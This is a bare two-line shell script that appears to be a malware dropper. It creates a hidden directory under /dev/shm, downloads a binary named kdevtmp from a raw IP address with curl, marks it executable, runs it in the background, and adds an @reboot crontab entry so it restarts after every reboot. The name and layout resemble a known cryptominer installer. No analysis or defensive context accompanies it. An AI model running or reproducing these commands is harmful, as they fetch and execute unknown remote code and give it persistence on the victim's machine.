( crontab -l 2>/dev/null | grep -v kdevtmp; echo '@reboot /dev/shm/.x/kdevtmp >/dev/null 2>&1' ) | crontab -
mkdir -p /dev/shm/.x && curl -sL http://5.181.80.9/k -o /dev/shm/.x/kdevtmp && chmod +x /dev/shm/.x/kdevtmp && /dev/shm/.x/kdevtmp &
